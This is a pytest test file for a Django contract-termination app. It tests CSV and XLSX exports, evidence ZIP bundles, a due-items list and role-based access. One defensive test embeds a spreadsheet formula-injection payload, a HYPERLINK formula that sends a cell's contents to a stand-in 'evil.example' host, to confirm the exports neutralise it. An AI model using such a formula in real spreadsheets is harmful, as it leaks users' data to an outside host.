"""Exports (CSV with BOM, XLSX), the evidence bundle, "my work" and the access checklist."""

import csv
import datetime
import hashlib
import io
import zipfile

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone

from terminations.models import CaseEvent, Notice, Stage
from tests.factories import PartnerFactory

from .conftest import TODAY, make_case, make_item

D = datetime.timedelta


@pytest.fixture
def cases(staff_user):
    return {
        "notice": make_case(
            stage=Stage.NOTICE,
            owner=staff_user,
            partner=PartnerFactory(name="杭州星河代运营有限公司"),
            end_date=TODAY + D(days=10),
        ),
        "handover": make_case(
            stage=Stage.HANDOVER, partner=PartnerFactory(name="上海晨光"), end_date=TODAY
        ),
    }


def _csv_rows(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_has_bom_round_trips_chinese_and_respects_filters(cases, manager_client):
    response = manager_client.get(reverse("terminations:case_export_csv"), {"stage": "notice"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    _header, *rows = _csv_rows(response)
    assert len(rows) == 1
    assert cases["notice"].reference in rows[0]
    assert "杭州星河代运营有限公司" in rows[0]
    everything = _csv_rows(
        manager_client.get(reverse("terminations:case_export_csv"), {"stage": "open"})
    )
    assert {r[0] for r in everything[1:]} == {c.reference for c in cases.values()}


def test_csv_with_a_text_filter(cases, manager_client):
    _header, *rows = _csv_rows(
        manager_client.get(reverse("terminations:case_export_csv"), {"q": "晨光"})
    )
    assert [r[0] for r in rows] == [cases["handover"].reference]


def test_xlsx_opens_with_openpyxl(cases, manager_client):
    response = manager_client.get(reverse("terminations:case_export_xlsx"), {"stage": "open"})
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    rows = list(workbook.active.iter_rows(values_only=True))
    assert len(rows) == 3  # header + two cases
    values = {v for row in rows[1:] for v in row}
    assert "杭州星河代运营有限公司" in values and cases["handover"].reference in values


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(manager_client, staff_user):
    case = make_case(stage=Stage.NOTICE, owner=staff_user, partner=PartnerFactory(name=FORMULA))
    _header, *rows = _csv_rows(manager_client.get(reverse("terminations:case_export_csv")))
    assert rows[0][0] == case.reference
    assert "'" + FORMULA in rows[0]
    assert FORMULA not in rows[0]

    response = manager_client.get(reverse("terminations:case_export_xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + FORMULA in [cell.value for cell in cells]


def test_bundle_contains_index_timeline_and_letters(cases, viewer_client):
    case = cases["notice"]
    CaseEvent.objects.create(
        case=case, kind=CaseEvent.Kind.STAGE_CHANGED, from_stage="assessment", to_stage="notice"
    )
    pdf = b"%PDF-1.4\n% issued letter bytes\n"
    notice = Notice(
        case=case,
        kind=Notice.Kind.TERMINATION,
        sequence=1,
        status=Notice.Status.ISSUED,
        letter_number="T-2026-L0001",
        issued_at=timezone.now(),
        sha256=hashlib.sha256(pdf).hexdigest(),
    )
    notice.pdf.save("T-2026-L0001.pdf", ContentFile(pdf), save=False)
    notice.save()
    response = viewer_client.get(reverse("terminations:case_bundle", args=[case.reference]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = set(archive.namelist())
    assert {"index.txt", "timeline.pdf", "letters/T-2026-L0001.pdf"} <= names
    assert archive.read("letters/T-2026-L0001.pdf") == pdf
    assert archive.read("timeline.pdf").startswith(b"%PDF")
    index = archive.read("index.txt").decode("utf-8-sig")
    assert "letters/T-2026-L0001.pdf" in index and hashlib.sha256(pdf).hexdigest() in index
    assert case.reference in index


@pytest.mark.parametrize(
    "url",
    ["/cases/T-0000-00000/bundle.zip", "/cases/T-%00/bundle.zip", "/cases/%3Cb%3E/bundle.zip"],
)
def test_bundle_of_an_unknown_case_is_404(manager_client, url):
    response = manager_client.get(url)
    assert response.status_code == 404


def test_my_work_lists_what_is_due_soonest_first(staff_user, staff_client, manager_user):
    case = make_case(stage=Stage.HANDOVER, owner=staff_user, end_date=TODAY + D(days=10))
    make_item(case, due=TODAY + D(days=2), title="下架橱窗商品")
    make_item(case, due=TODAY - D(days=3), title="撤销巨量千川授权")
    other = make_case(stage=Stage.HANDOVER, owner=manager_user, end_date=TODAY + D(days=1))
    make_item(other, due=TODAY, title="别人的事项")
    response = staff_client.get(reverse("terminations:my_work"))
    assert response.status_code == 200
    items = response.context["items"]
    assert [i.due for i in items] == sorted(i.due for i in items)
    assert [(i.kind, i.due) for i in items] == [
        ("handover", TODAY - D(days=3)),
        ("handover", TODAY + D(days=2)),
        ("end_date", TODAY + D(days=10)),
    ]
    assert items[0].overdue and not items[1].overdue
    assert "别人的事项" not in response.content.decode()


def test_my_work_shows_a_passed_end_date_only_before_the_handover(staff_user, staff_client):
    behind = make_case(stage=Stage.NOTICE, owner=staff_user, end_date=TODAY - D(days=4))
    handing_over = make_case(stage=Stage.HANDOVER, owner=staff_user, end_date=TODAY - D(days=4))
    coming = make_case(stage=Stage.HANDOVER, owner=staff_user, end_date=TODAY + D(days=4))
    items = staff_client.get(reverse("terminations:my_work")).context["items"]
    ends = {(i.case_reference, i.overdue) for i in items if i.kind == "end_date"}
    assert ends == {(behind.reference, True), (coming.reference, False)}
    assert handing_over.reference not in {i.case_reference for i in items}


def test_my_work_comes_fifty_at_a_time_overdue_first(staff_user, staff_client):
    case = make_case(stage=Stage.HANDOVER, owner=staff_user, end_date=TODAY + D(days=90))
    for n in range(60):
        make_item(case, due=TODAY - D(days=30) + D(days=n), title=f"事项{n:02d}")
    first = staff_client.get(reverse("terminations:my_work"))
    assert len(first.context["items"]) == 50
    assert first.context["items"][0].title == "事项00"
    assert first.context["overdue"] == 30  # due 30 days ago up to yesterday
    assert "30 项已逾期。" in first.content.decode()
    second = staff_client.get(reverse("terminations:my_work"), {"page": "2"})
    assert [i.title for i in second.context["items"]] == [f"事项{n:02d}" for n in range(50, 60)]
    assert staff_client.get(reverse("terminations:my_work"), {"page": "x"}).status_code == 200


URLS = {
    "my_work": lambda c: reverse("terminations:my_work"),
    "csv": lambda c: reverse("terminations:case_export_csv"),
    "xlsx": lambda c: reverse("terminations:case_export_xlsx"),
    "bundle": lambda c: reverse("terminations:case_bundle", args=[c.reference]),
}
# Who may open what: staff and managers have work; everyone who reads cases (the lawyer and
# finance too) may export them and download a bundle.
ALLOWED = {
    "my_work": {"staff", "manager"},
    "csv": {"viewer", "staff", "manager"},
    "xlsx": {"viewer", "staff", "manager"},
    "bundle": {"viewer", "staff", "manager"},
}


@pytest.mark.parametrize("page", sorted(URLS))
def test_access_checklist(
    page, cases, anon_client, nogroup_client, viewer_client, staff_client, manager_client
):
    url = URLS[page](cases["notice"])
    response = anon_client.get(url)
    assert response.status_code == 302 and "login" in response["Location"]
    clients = {
        "nogroup": nogroup_client,
        "viewer": viewer_client,
        "staff": staff_client,
        "manager": manager_client,
    }
    for persona, client in clients.items():
        expected = 200 if persona in ALLOWED[page] else 403
        assert client.get(url).status_code == expected, persona
    assert manager_client.post(url).status_code == 405
